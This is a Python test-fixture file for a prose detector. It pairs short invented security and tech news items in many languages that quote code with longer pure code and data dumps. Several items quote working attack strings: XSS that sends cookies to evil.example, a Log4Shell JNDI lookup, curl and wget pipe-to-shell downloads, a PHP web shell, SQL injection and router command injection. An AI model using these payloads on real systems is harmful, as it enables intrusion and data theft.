"""Texts for the not-prose gate (tests/test_prose.py): news that quotes code, which is prose,
and dumps that are mostly code, markup, a table or encoded data, which are not.

Written for these tests: tech, security and web news in several languages, each quoting
payloads, snippets, tags, commands, JSON, regular expressions, paths or stack traces the way
articles do (inline, in backticks, or as a short block between paragraphs).
"""

from __future__ import annotations

import base64
import json
import random

_rng = random.Random(20)

# News, release notes and explainers that quote code: each is briefed.
QUOTING_CODE: dict[str, str] = {
    "en: stored XSS payloads": (
        "Security researchers have disclosed a stored cross-site scripting flaw in the "
        "comment system used by thousands of small news sites. An attacker could post a "
        "comment containing <img src=x onerror=alert(document.cookie)> and the code would "
        "run in the browser of every visitor who opened the article. A second payload, "
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>, sent "
        "session cookies to a server the attacker controlled. The vendor released a fix on "
        "Tuesday and urged administrators to update immediately. There is no evidence that "
        "the flaw was exploited before it was reported."
    ),
    "en: explaining the b and a tags": (
        "In HTML, the <b> tag marks text that should be drawn in bold, as in "
        "<b>important</b>, without giving it any extra meaning. A link is written with the "
        "<a> tag and its href attribute: <a href=\"https://example.org\">read more</a> takes "
        "the reader to another page. Screen readers announce links but ignore bold text, "
        "which is why accessibility guides recommend <strong> when the emphasis matters. "
        "Both tags must be closed, or the rest of the paragraph inherits their effect."
    ),
    "en: SQL injection login bypass": (
        "The city's parking permit portal could be entered without a password, a student "
        "found last month. Typing ' OR '1'='1' -- into the user name field turned the "
        "login query into SELECT * FROM users WHERE name = '' OR '1'='1' --' AND pass = '', "
        "which matches every account. The city said the portal has been taken offline and "
        "that no payment data was exposed. Officials thanked the student, who reported the "
        "problem through the council's disclosure programme rather than publishing it."
    ),
    "en: release note with a three-line snippet": (
        "Version 3.2 of the Lattice web framework, released on Thursday, makes request "
        "handlers asynchronous by default and drops support for Python 3.8. The maintainers "
        "say most applications need only a one-line change to their routes:\n\n"
        "@app.get(\"/items/{item_id}\")\n"
        "async def read_item(item_id: int) -> dict:\n"
        "    return {\"id\": item_id, \"ok\": True}\n\n"
        "The release also fixes a memory leak in the websocket layer that affected "
        "long-running servers, and it ships a migration guide for larger projects."
    ),
    "en: curl pipe to shell": (
        "A popular command-line tool told its users to install it by running "
        "curl -fsSL https://get.example.sh | sudo bash, a practice security teams have long "
        "warned against. On Friday the project's download server was compromised and the "
        "script was replaced with one that also added an SSH key to /root/.ssh/"
        "authorized_keys. Anyone who ran the installer between 9 am and 4 pm UTC should "
        "assume the machine is compromised, the maintainers said. They now publish "
        "signed packages instead."
    ),
    "en: JSON fragment from a leaky API": (
        "The airline's booking API returned far more than a passenger's own reservation. "
        "Requesting /api/v2/bookings?ref=ABC123 produced a response such as "
        "{\"ref\": \"ABC123\", \"name\": \"J. Doe\", \"passport\": \"X1234567\", "
        "\"dob\": \"1980-02-11\"} for any reference, with no check that the caller owned "
        "it. Because booking references are only six characters long, they could be "
        "guessed in a few hours. The airline said it fixed the endpoint within a day of "
        "being told and has notified the data protection authority."
    ),
    "en: regex denial of service": (
        "An outage that took down a content delivery network for 27 minutes was caused by "
        "a single regular expression, the company said in its post-mortem. The rule "
        "contained the pattern (?:(?:\\\"|'|\\]|\\}|\\\\|\\d|(?:nan|infinity|true|false|"
        "null|undefined|symbol|math)|\\`|\\-|\\+)+[)]*;?((?:\\s|-|~|!|{}|\\|\\||\\+)*.*"
        "(?:.*=.*))) and backtracked so heavily that every CPU core in the network hit 100 "
        "percent. Engineers rolled the rule back and have since moved to a regex engine "
        "that runs in linear time. The company apologised to customers and promised "
        "refunds under its service agreement."
    ),
    "en: Java stack trace quoted": (
        "Players of the online game could not log in for most of Saturday. The studio "
        "later explained that a configuration change left a field empty, and every login "
        "server crashed with java.lang.NullPointerException: Cannot invoke "
        "\"String.length()\" because \"region\" is null, at "
        "com.studio.auth.LoginHandler.resolve(LoginHandler.java:214). Servers restarted "
        "automatically but crashed again within seconds. Service returned after engineers "
        "restored the previous configuration, and players will receive two days of "
        "premium time as compensation."
    ),
    "en: Log4Shell explainer": (
        "The Log4Shell vulnerability, tracked as CVE-2021-44228, let attackers run code on "
        "a server simply by getting it to write a string to its logs. A chat message or a "
        "browser's user agent set to ${jndi:ldap://attacker.example/a} was enough: the "
        "logging library looked up the address and loaded a Java class from it. Because "
        "Log4j is built into countless products, patching took months. Administrators were "
        "told to upgrade to version 2.17.1 or to remove the JndiLookup class from the "
        "classpath as a stopgap."
    ),
    "en: Windows path and PowerShell": (
        "The ransomware gang behind the hospital attack used tools that ship with Windows, "
        "investigators said. After getting in through a stolen VPN password, they ran "
        "vssadmin delete shadows /all /quiet to remove backups and copied their payload to "
        "C:\\ProgramData\\Microsoft\\Crypto\\svc.exe so it would look like a system file. "
        "Powershell -ExecutionPolicy Bypass -File update.ps1 then spread it to 300 "
        "computers overnight. The hospital diverted ambulances for three days while it "
        "restored its systems from offline copies."
    ),
    "en: browser release with a CSS snippet": (
        "Browsers are finally agreeing on how to write nested style rules. Starting with "
        "this month's releases, a designer can put a rule inside another one, as in "
        ".card { color: black; & h2 { margin: 0; } }, without a preprocessor such as "
        "Sass. Web developers have asked for the feature for more than a decade. Older "
        "browsers ignore the nested rule entirely, so sites that must support them should "
        "keep their build step for now."
    ),
    "en: markdown fenced snippet": (
        "The maintainers of the left-pad successor said on Monday that a typo in last "
        "week's release broke thousands of builds.\n\n"
        "```js\n"
        "export function pad(s, n, c = ' ') {\n"
        "  return c.repeat(Math.max(0, n - s.lenght)) + s;\n"
        "}\n"
        "```\n\n"
        "Because the misspelled property is undefined, the function returned the string "
        "unchanged. A corrected version was published within hours, and the package "
        "registry has since added a check that runs each library's own tests before a "
        "release goes live."
    ),
    "en: supply chain attack with install script": (
        "Attackers published a copy of a popular Python package under a name one letter "
        "off from the original. Its setup.py contained the line "
        "os.system('curl -s http://203.0.113.7/x | sh') and ran when anyone typed "
        "pip install reqeusts by mistake. The fake package was downloaded about 4,000 "
        "times before it was removed. Security firms recommend pinning dependencies and "
        "checking names carefully, since the registry cannot catch every imitation."
    ),
    "en: a short story with a config line": (
        "A misplaced asterisk opened a company's entire storage bucket to the internet. "
        "The policy read \"Principal\": \"*\", \"Action\": \"s3:GetObject\", which lets "
        "anyone download any file. Researchers found 1.2 million customer invoices there."
    ),
    "en: git command in a developer story": (
        "A developer accidentally pushed a database password to a public repository and "
        "deleted it a minute later, but bots had already copied it. Removing a secret with "
        "git rm config.yml && git commit -m \"remove secret\" leaves it in the history, "
        "where anyone can read it with git log -p. The only safe fix is to change the "
        "password at once, security experts say. Scanning services now watch public "
        "commits for keys around the clock."
    ),
    "de: XSS-Lücke im Kontaktformular": (
        "Forscher haben im Kontaktformular eines großen Versandhändlers eine Lücke für "
        "Cross-Site-Scripting entdeckt. Wer in das Namensfeld den Text "
        "<script>alert('XSS')</script> eintrug, brachte den Browser des Kundendienstes "
        "dazu, fremden Code auszuführen. Ein zweiter Angriff mit "
        "<svg onload=fetch('//evil.example/'+document.cookie)> hätte die Sitzung der "
        "Mitarbeiter übernommen. Der Händler hat die Lücke nach eigenen Angaben innerhalb "
        "von zwei Tagen geschlossen. Kundendaten seien nicht abgeflossen, teilte das "
        "Unternehmen mit."
    ),
    "de: Versionshinweise mit Codeblock": (
        "Die neue Version 5.0 der Datenbank PolarDB ist seit Mittwoch verfügbar und bringt "
        "vor allem schnellere Abfragen über große Tabellen. Wer bestehende Indizes neu "
        "aufbauen möchte, kann das nun ohne Sperren tun:\n\n"
        "REINDEX INDEX CONCURRENTLY idx_orders_date;\n"
        "ANALYZE orders;\n"
        "SELECT count(*) FROM orders WHERE created > now() - interval '1 day';\n\n"
        "Laut den Entwicklern sinkt die Antwortzeit typischer Berichte dadurch um bis zu "
        "40 Prozent. Ältere Versionen erhalten noch bis Ende des Jahres "
        "Sicherheitsupdates."
    ),
    "de: Shell-Befehl in einer Meldung": (
        "Das Bundesamt für Sicherheit in der Informationstechnik warnt vor einer Lücke in "
        "verbreiteten Routern. Angreifer können über die Weboberfläche beliebige Befehle "
        "ausführen, etwa ; wget http://198.51.100.4/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b "
        "im Feld für den Gerätenamen. Betroffen sind nach Angaben des Herstellers alle "
        "Modelle mit einer Firmware älter als 2.4.1. Nutzer sollten das Update sofort "
        "einspielen und die Fernwartung abschalten."
    ),
    "fr: faille XSS dans un site de billetterie": (
        "Une faille de sécurité a été découverte sur le site d'une grande billetterie en "
        "ligne. En saisissant \"><img src=x onerror=alert(1)> dans le champ de recherche, "
        "un chercheur a pu exécuter du code dans la page de résultats. Selon lui, un pirate "
        "aurait pu voler les données de paiement des clients avec une variante plus "
        "discrète de ce code. L'entreprise affirme avoir corrigé le problème en moins de "
        "vingt-quatre heures. Elle assure qu'aucune donnée n'a été dérobée."
    ),
    "fr: explication des balises HTML": (
        "Pour mettre un mot en valeur sur une page web, on l'entoure de la balise <em>, "
        "comme dans <em>attention</em>, que les navigateurs affichent en italique. La "
        "balise <ul> ouvre une liste à puces, et chaque élément s'écrit entre <li> et "
        "</li>. Un titre principal se note avec <h1>, et il ne devrait y en avoir qu'un par "
        "page. Ces règles simples aident aussi les moteurs de recherche à comprendre le "
        "contenu."
    ),
    "fr: note de version avec un extrait": (
        "La version 2.0 de l'outil de traduction libre est sortie lundi. Elle peut "
        "désormais être appelée depuis un script, par exemple :\n\n"
        "from traducteur import Client\n"
        "client = Client(langue=\"fr\")\n"
        "print(client.traduire(\"Hello world\"))\n\n"
        "Les développeurs promettent aussi une consommation de mémoire divisée par deux "
        "et une meilleure prise en charge des langues africaines."
    ),
    "es: inyección SQL en un ayuntamiento": (
        "Un investigador descubrió que el portal de empleo de un ayuntamiento permitía "
        "leer toda su base de datos. Bastaba con añadir ' UNION SELECT usuario, clave FROM "
        "administradores-- al parámetro de búsqueda de la dirección "
        "/ofertas?categoria=1 para obtener las contraseñas de los administradores. El "
        "ayuntamiento ha desactivado el portal mientras revisa el código. Según fuentes "
        "municipales, no hay indicios de que alguien haya aprovechado el fallo."
    ),
    "es: comando de Linux en una noticia": (
        "Una vulnerabilidad en el programa sudo permite a cualquier usuario de un sistema "
        "Linux convertirse en administrador. Los investigadores demostraron el fallo con "
        "la orden sudoedit -s '\\' $(python3 -c 'print(\"A\"*1000)'), que provoca un "
        "desbordamiento de memoria. El error llevaba diez años en el código sin que nadie "
        "lo detectara. Las principales distribuciones ya han publicado parches y "
        "recomiendan instalarlos cuanto antes."
    ),
    "es: fragmento JSON de una app": (
        "La aplicación de una cadena de gimnasios enviaba la ubicación de sus clientes sin "
        "cifrar. Cada pocos minutos, el teléfono mandaba un mensaje como "
        "{\"user\": 48213, \"lat\": 40.4168, \"lon\": -3.7038, \"ts\": 1718000000} a un "
        "servidor que cualquiera podía consultar. La empresa asegura que ha corregido el "
        "problema y que avisará a los usuarios afectados. La agencia de protección de "
        "datos ha abierto una investigación."
    ),
    "it: falla XSS e tag script": (
        "Un ricercatore italiano ha scoperto una vulnerabilità nel sito di una nota banca "
        "online. Inserendo <script>document.location='https://evil.example/?'+"
        "document.cookie</script> nel campo dei messaggi, era possibile rubare la sessione "
        "di un altro cliente. La banca ha ringraziato il ricercatore e ha corretto il "
        "problema in pochi giorni. Secondo l'istituto, nessun conto è stato violato."
    ),
    "pt: comando e caminho de arquivo": (
        "Uma falha no programa de gestão escolar usado por várias prefeituras expôs dados "
        "de milhares de alunos. O arquivo /var/www/html/backup/alunos.sql ficava "
        "disponível para download público, e bastava o comando wget "
        "http://escola.example/backup/alunos.sql para baixá-lo. A empresa responsável "
        "removeu o arquivo depois de ser avisada por um jornalista. O Ministério Público "
        "abriu um procedimento para apurar o caso."
    ),
    "nl: release met een kort codefragment": (
        "De nieuwe versie van de populaire programmeertaal is dinsdag verschenen en maakt "
        "het schrijven van gelijktijdige code eenvoudiger. Ontwikkelaars kunnen nu "
        "bijvoorbeeld schrijven: results = await gather(fetch(a), fetch(b)), waarna beide "
        "verzoeken tegelijk worden uitgevoerd. Volgens de makers zijn programma's daardoor "
        "tot twee keer sneller. Oudere code blijft gewoon werken."
    ),
    "pl: luka w routerze i polecenie": (
        "Badacze bezpieczeństwa ostrzegają przed luką w popularnych routerach domowych. "
        "Wystarczy wysłać żądanie GET /cgi-bin/luci/;stok=/locale?form=country&"
        "operation=write&country=$(id), aby wykonać dowolne polecenie na urządzeniu. "
        "Producent wydał już poprawkę, ale wiele routerów nie aktualizuje się "
        "automatycznie. Eksperci radzą sprawdzić wersję oprogramowania w panelu "
        "administracyjnym."
    ),
    "ru: уязвимость и вредоносный код": (
        "Исследователи обнаружили уязвимость в популярном форуме, которая позволяла "
        "внедрять вредоносный код в сообщения. Достаточно было вставить строку "
        "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\"> в подпись профиля, чтобы код "
        "выполнялся у каждого читателя темы. Разработчики выпустили исправление в течение "
        "суток. Администраторам форумов рекомендуется обновиться до версии 4.2.3."
    ),
    "ru: заметка о выпуске с фрагментом": (
        "Вышла новая версия системы управления пакетами, в которой появилась проверка "
        "подписей. Чтобы включить её, достаточно добавить в файл настроек строку "
        "verify_signatures = true и выполнить команду pkg update --strict. По словам "
        "разработчиков, это защитит пользователей от подменённых пакетов. Старый режим "
        "останется доступен ещё год."
    ),
    "ja: XSS脆弱性の報道": (
        "大手通販サイトの検索機能に、クロスサイトスクリプティングの脆弱性が見つかった。"
        "検索欄に<script>alert(document.domain)</script>と入力すると、結果ページで"
        "そのコードが実行される状態だったという。同社は報告を受けて翌日に修正を行い、"
        "個人情報の流出は確認されていないと説明している。専門家は、利用者にパスワードの"
        "変更を勧めている。"
    ),
    "zh: 新版本发布与代码片段": (
        "开源数据库项目周二发布了新版本，重点改进了查询速度。开发者现在可以使用"
        "SELECT * FROM logs WHERE ts > now() - interval '1 hour' 这样的语句快速检索"
        "最近的日志。项目负责人表示，新版本在大表上的查询速度提高了三倍。"
        "旧版本将在明年停止维护，用户应尽快升级。"
    ),
    "ko: 명령어가 담긴 보안 기사": (
        "보안 업체는 리눅스 서버를 노리는 새로운 악성코드가 발견됐다고 밝혔다. 공격자는 "
        "curl -s http://192.0.2.8/m.sh | sh 명령으로 악성 스크립트를 내려받아 실행했다. "
        "감염된 서버는 가상화폐 채굴에 동원됐으며, 피해 규모는 아직 파악되지 않았다. "
        "업체는 관리자들에게 외부 접속 설정을 점검하라고 권고했다."
    ),
    "tr: güvenlik açığı ve komut": (
        "Güvenlik araştırmacıları, yaygın kullanılan bir e-ticaret eklentisinde ciddi bir "
        "açık buldu. Saldırganlar, ?sort=price;DROP TABLE orders-- gibi bir adresle "
        "veritabanındaki tabloları silebiliyordu. Eklentinin geliştiricisi sorunu gideren "
        "bir güncelleme yayımladı. Site sahiplerinin eklentiyi hemen güncellemesi "
        "öneriliyor."
    ),
    "sv: stackspårning i en nyhet": (
        "Betalningar i flera svenska webbutiker stoppades under fredagskvällen. Enligt "
        "leverantören orsakades felet av en uppdatering som gav felmeddelandet "
        "TypeError: Cannot read properties of undefined (reading 'amount') at "
        "checkout.js:88:17 i kundernas webbläsare. Uppdateringen drogs tillbaka efter två "
        "timmar. Företaget ber om ursäkt och lovar att se över sina tester."
    ),
    "en: several paragraphs with a payload block": (
        "A widely used WordPress plugin for contact forms contained a flaw that let anyone "
        "upload a web shell, researchers at a security firm said on Wednesday.\n\n"
        "The plugin accepted any file whose name ended in an allowed extension, so a file "
        "called shell.php.jpg passed the check. Its contents were as short as this:\n\n"
        "<?php system($_GET['cmd']); ?>\n\n"
        "Once uploaded, the attacker only had to visit the file's address with "
        "?cmd=whoami appended to run commands on the server.\n\n"
        "The plugin's authors released version 5.3.4 with a fix and said they had seen no "
        "attacks before the disclosure. More than 700,000 sites use the plugin."
    ),
    "en: five sentences, two payloads": (
        "Researchers disclosed a stored XSS flaw in a popular forum plugin. Attackers could "
        "post <img src=x onerror=alert(1)> as a comment to run code in readers' browsers. "
        "A second payload, <script>new Image().src='//evil.example/?c='+document.cookie;"
        "</script>, stole session cookies. The vendor released a patch on Tuesday. Users "
        "should update to version 2.3.1."
    ),
    "en: four sentences on b and a, in backticks": (
        "The `<b>` tag makes text bold: `<b>Breaking</b>` shows the word in heavy type. "
        "The `<a>` tag makes a link, as in `<a href=\"/news\">News</a>`. Nesting them, "
        "`<a href=\"/\"><b>Home</b></a>`, gives a bold link. Always close both tags."
    ),
    "en: release note, backticks and a flag": (
        "Toolbox 1.9 is out. Run `pip install -U toolbox==1.9` to upgrade. The `--json` "
        "flag now prints `{\"ok\": true, \"items\": []}` when nothing matched, instead of "
        "an empty line. `toolbox.load()` accepts a `pathlib.Path`. Windows users no longer "
        "need `set PYTHONUTF8=1`."
    ),
    "en: changelog bullets with code": (
        "Changes in version 0.14 of the image library:\n\n"
        "- `Image.open()` now reads AVIF files when `libavif` is installed.\n"
        "- The `quality=` argument of `save()` is checked and raises `ValueError` for "
        "values outside 1 to 100.\n"
        "- Fixed a crash in `resize((0, 0))` reported by several users.\n\n"
        "The project thanks its 23 new contributors, and it will drop support for "
        "Python 3.8 in the next release."
    ),
    "de: kurze Meldung mit zwei Payloads": (
        "Im Gästebuch einer Stadtverwaltung klaffte eine Sicherheitslücke. Der Eintrag "
        "`<script>alert(document.cookie)</script>` wurde ungefiltert angezeigt. Auch "
        "`<iframe src=\"javascript:alert(1)\">` funktionierte. Die Stadt hat das Gästebuch "
        "abgeschaltet."
    ),
    "fr: explication courte de balises": (
        "La balise <p> ouvre un paragraphe et </p> le ferme. La balise <br> force un "
        "retour à la ligne, sans balise fermante. On écrit <img src=\"chat.jpg\" "
        "alt=\"Un chat\"> pour afficher une image. L'attribut alt décrit l'image aux "
        "personnes aveugles."
    ),
    "es: nota corta con expresión regular": (
        "El nuevo filtro de correo rechaza los mensajes cuyo asunto coincide con "
        "^(?:URGENTE|Re:\\s*Factura)\\s*[#:]?\\s*\\d{4,}$ y avisa al usuario. Según la "
        "empresa, así se bloquea la mayoría de los fraudes. El cambio llega esta semana a "
        "todas las cuentas."
    ),
    "en: stack trace line in a status update": (
        "Checkout is failing for some users. The error is "
        "`KeyError: 'currency' in /srv/shop/cart.py, line 212, in total()`. A fix is "
        "being deployed, and orders placed in the meantime are safe."
    ),
    "hi: कमांड वाली सुरक्षा खबर": (
        "साइबर सुरक्षा विशेषज्ञों ने एक नए हमले के बारे में चेतावनी दी है। हमलावर "
        "powershell -enc JABjAD0AbgBlAHcA जैसे आदेश से कंप्यूटर पर वायरस डाउनलोड करते हैं। "
        "कंपनी ने कहा है कि उपयोगकर्ता अपने सिस्टम को तुरंत अपडेट करें।"
    ),
    "en: headline, then a payload": (
        "Stored XSS in CommentBox\n\n"
        "The payload \"><svg/onload=alert(document.domain)> runs for every visitor who "
        "opens a thread. Update to 3.4.2 now."
    ),
    "en: a one-sentence SQL injection": (
        "Entering ' OR 1=1; DROP TABLE users; -- in the search box wiped the shop's "
        "customer table, the owner said."
    ),
    "en: a shell session between paragraphs": (
        "Users of the popular archive tool should upgrade after a flaw allowed files to be "
        "written outside the target folder.\n\n"
        "$ tar -xf evil.tar\n"
        "$ ls ~/.ssh\n"
        "authorized_keys\n\n"
        "The crafted archive above silently replaced the user's SSH keys. Version 1.35 "
        "rejects such paths."
    ),
    "en: a traceback between paragraphs": (
        "The app crashed for thousands of users on Monday morning after an update.\n\n"
        "Traceback (most recent call last):\n"
        "  File \"app.py\", line 42, in <module>\n"
        "    main()\n"
        "ValueError: invalid literal for int() with base 10: ''\n\n"
        "The developers said an empty setting caused the error and released a fix within "
        "the hour."
    ),
    "en: a tag on each line": (
        "HTML has a handful of tags every beginner should know.\n\n"
        "<p> starts a paragraph.\n"
        "<a> makes a link.\n"
        "<img> shows an image.\n"
        "<ul> and <li> make a list.\n\n"
        "Learn these and you can write a simple page by hand."
    ),
    "en: JSON record as its own paragraph": (
        "The city's open-data portal published the location of every police patrol car in "
        "real time, a researcher found.\n\n"
        "Each record looked like this:\n\n"
        "{\"unit\": \"P-114\", \"lat\": 59.9139, \"lon\": 10.7522, \"status\": \"patrol\"}\n\n"
        "The feed has been taken offline, and the city says it will review what other data "
        "the portal exposes."
    ),
    "de: Header mit Payload in einem Absatz": (
        "Die Lücke steckt in der Funktion `parse_header()`: Ein Header wie "
        "`X-Forwarded-For: 127.0.0.1, ${jndi:ldap://a.b/c}` genügt, um Code nachzuladen. "
        "Betroffen sind die Versionen 2.0 bis 2.14.1."
    ),
    "fr: innerHTML et textContent": (
        "Le correctif remplace innerHTML par textContent, si bien que "
        "<img src=x onerror=alert(1)> s'affiche désormais comme du texte. Les utilisateurs "
        "n'ont rien à faire."
    ),
    "zh: 漏洞请求单独成行": (
        "某开源框架发布新版本，修复了一个远程代码执行漏洞。\n\n"
        "攻击者可以发送如下请求：\n"
        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
        "&vars[0]=system&vars[1][]=id\n\n"
        "官方建议所有用户尽快升级到最新版本，并检查服务器日志中是否有类似请求。"
    ),
    "ja: 設定ファイルの一行": (
        "新しいバージョンでは、設定ファイルに次の一行を加えるだけで暗号化が有効になる。\n\n"
        "encryption: { enabled: true, algorithm: \"aes-256-gcm\" }\n\n"
        "開発チームによると、性能への影響はほとんどないという。"
    ),
    "en: HTML email phishing explainer": (
        "Phishing emails increasingly hide their real destination behind harmless-looking "
        "text. A message may show a line such as \"Sign in to your bank\" while its source "
        "reads <a href=\"http://bank-login.example.ru/verify\">Sign in to your bank</a>, "
        "so the address only appears when the reader hovers over the link. Mail programs "
        "now flag links whose text and target differ. Banks repeat that they never ask "
        "customers to confirm passwords by email."
    ),
}

# Mostly code, markup, a table or encoded data (a line of prose at most): each is refused.
_GO = """// Package cache keeps recently used items in memory and evicts the oldest first.
package cache

import (
\t"container/list"
\t"sync"
)

type entry struct {
\tkey   string
\tvalue []byte
}

type LRU struct {
\tmu    sync.Mutex
\tcap   int
\tlist  *list.List
\titems map[string]*list.Element
}

func New(capacity int) *LRU {
\treturn &LRU{cap: capacity, list: list.New(), items: map[string]*list.Element{}}
}

func (c *LRU) Get(key string) ([]byte, bool) {
\tc.mu.Lock()
\tdefer c.mu.Unlock()
\tif el, ok := c.items[key]; ok {
\t\tc.list.MoveToFront(el)
\t\treturn el.Value.(*entry).value, true
\t}
\treturn nil, false
}

func (c *LRU) Put(key string, value []byte) {
\tc.mu.Lock()
\tdefer c.mu.Unlock()
\tif el, ok := c.items[key]; ok {
\t\tel.Value.(*entry).value = value
\t\tc.list.MoveToFront(el)
\t\treturn
\t}
\tc.items[key] = c.list.PushFront(&entry{key, value})
\tif c.list.Len() > c.cap {
\t\toldest := c.list.Back()
\t\tc.list.Remove(oldest)
\t\tdelete(c.items, oldest.Value.(*entry).key)
\t}
}
"""

_SHELL = """#!/usr/bin/env bash
# Deploy the current branch to the staging servers, one at a time, and stop on the first error.
set -euo pipefail
HOSTS=(web1 web2 web3)
for host in "${HOSTS[@]}"; do
  rsync -az --delete ./dist/ "deploy@${host}:/srv/app/"
  ssh "deploy@${host}" 'sudo systemctl restart app && systemctl is-active app'
  curl -fsS "https://${host}.staging.example/healthz" >/dev/null || exit 1
done
echo "deployed $(git rev-parse --short HEAD) to ${#HOSTS[@]} hosts"
"""

_SQL = """-- Monthly revenue per region, for the finance dashboard.
SELECT r.name AS region,
       date_trunc('month', o.created_at) AS month,
       sum(o.total) AS revenue,
       count(DISTINCT o.customer_id) AS customers
FROM orders o
JOIN customers c ON c.id = o.customer_id
JOIN regions r ON r.id = c.region_id
WHERE o.status = 'paid' AND o.created_at >= now() - interval '12 months'
GROUP BY r.name, month
ORDER BY month DESC, revenue DESC;
"""

_HTML_PAGE = """<!-- The newsletter sign-up page. -->
<nav class="top"><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li>
<li><a href="/sport">Sport</a></li><li><a href="/about">About</a></li></ul></nav>
<form id="signup" action="/subscribe" method="post">
  <label for="email">Email</label>
  <input type="email" id="email" name="email" required>
  <select name="freq"><option value="d">Daily</option><option value="w">Weekly</option></select>
  <button type="submit" class="btn btn-primary">Sign up</button>
</form>
<script src="/static/app.3f9a1c.js" defer></script>
<footer><p>&copy; 2024 Example Media</p></footer>
"""

_MINIFIED_JS = (
    "(()=>{\"use strict\";const e=document.querySelectorAll(\"[data-tab]\");e.forEach(t=>{"
    "t.addEventListener(\"click\",n=>{n.preventDefault();e.forEach(o=>o.classList.remove("
    "\"active\"));t.classList.add(\"active\");const a=document.getElementById(t.dataset.tab);"
    "a&&(a.hidden=!1)})});window.__cfg={api:\"/v1\",retries:3,timeout:5e3}})();"
) * 8

_CSV = "date,region,product,units,revenue\n" + "\n".join(
    f"2024-{m:02d}-{d:02d},{r},{p},{u},{u * 19.99:.2f}"
    for m, d, r, p, u in [(
        _rng.randint(1, 12), _rng.randint(1, 28), _rng.choice(["north", "south", "east"]),
        _rng.choice(["lamp", "desk", "chair", "shelf"]), _rng.randint(1, 90)) for _ in range(40)]
)

_MARKDOWN_TABLE = "| Model | Year | Price | Battery |\n|---|---|---|---|\n" + "\n".join(
    f"| Phone {i} | {2015 + i % 9} | ${199 + 50 * i} | {3000 + 100 * i} mAh |" for i in range(25)
)

CODE_DUMPS: dict[str, str] = {
    "go source with a doc comment": _GO,
    "shell script with a comment line": _SHELL,
    "sql query with a comment line": _SQL,
    "minified javascript": _MINIFIED_JS,
    "json dump": json.dumps(
        {"users": [{"id": i, "name": f"user{i}", "email": f"user{i}@example.com",
                    "roles": ["reader", "editor"][: 1 + i % 2], "active": i % 3 != 0}
                   for i in range(30)]}, indent=2),
    "base64 blob with a label": "Attachment (invoice.pdf):\n"
                                + base64.encodebytes(_rng.randbytes(3_000)).decode(),
    "csv dump": _CSV,
    "markdown table": _MARKDOWN_TABLE,
    "html page with little text": _HTML_PAGE * 3,
    "python with a docstring sentence": '''def merge(a, b):
    """Merge two sorted lists into one sorted list."""
    out, i, j = [], 0, 0
    while i < len(a) and j < len(b):
        if a[i] <= b[j]:
            out.append(a[i]); i += 1
        else:
            out.append(b[j]); j += 1
    return out + a[i:] + b[j:]


def merge_sort(xs):
    if len(xs) <= 1:
        return xs
    mid = len(xs) // 2
    return merge(merge_sort(xs[:mid]), merge_sort(xs[mid:]))
''',
    "sql with a two-line comment": """-- Find customers who ordered in the last month but
-- never before, so the marketing team can send them the welcome discount.
SELECT c.id, c.email, min(o.created_at) AS first_order
FROM customers c
JOIN orders o ON o.customer_id = c.id
GROUP BY c.id, c.email
HAVING min(o.created_at) >= now() - interval '1 month';
""",
    "javascript with a doc comment": """/**
 * Fetch the user's profile and cache it for five minutes.
 * @param {string} id - the user's id
 * @returns {Promise<Profile>}
 */
export async function profile(id) {
  const hit = cache.get(id);
  if (hit && Date.now() - hit.at < 300_000) return hit.value;
  const res = await fetch(`/api/users/${encodeURIComponent(id)}`);
  if (!res.ok) throw new Error(`profile ${id}: ${res.status}`);
  const value = await res.json();
  cache.set(id, { value, at: Date.now() });
  return value;
}""",
    "css with a comment": """/* Card layout used on the home page. */
.card { display: grid; grid-template-columns: 1fr 2fr; gap: 1rem; }
.card > h2 { font: 600 1.25rem/1.3 system-ui, sans-serif; margin: 0; }
.card img { width: 100%; aspect-ratio: 16 / 9; object-fit: cover; }
@media (max-width: 600px) { .card { grid-template-columns: 1fr; } }
.byline { color: #555; font-size: .875rem; letter-spacing: .01em; }
""",
    "xml feed with sentences in it": "\n".join(
        f"<item><guid>{_rng.getrandbits(48):x}</guid><title>Storm floods coastal roads in "
        f"region {i}</title><description>Heavy rain closed several roads on Monday "
        f"morning</description><pubDate>Mon, {i + 1:02d} Jan 2024</pubDate></item>"
        for i in range(12)),
    "json with Chinese values": json.dumps(
        [{"id": 1000 + i, "城市": _rng.choice(["北京", "上海", "广州", "深圳", "成都"]),
          "标题": "".join(_rng.choice(["暴雨", "道路", "封闭", "交通", "预警", "地铁"])
                        for _ in range(4)),
          "摘要": "".join(_rng.choice(["暴雨", "导致", "道路", "封闭", "交通", "受到", "影响",
                                     "市民", "出行"]) for _ in range(9)) + "。",
          "链接": f"https://news.example.cn/a/{_rng.getrandbits(40):x}.html"}
         for i in range(20)], ensure_ascii=False, indent=2),
    "stack trace dump": "\n".join(
        ["Traceback (most recent call last):"]
        + [f'  File "/srv/app/handlers/h{i}.py", line {10 + i}, in handle_{i}\n'
           f"    result = dispatch_{i}(request, ctx=ctx)" for i in range(20)]
        + ["KeyError: 'region'"]),
}
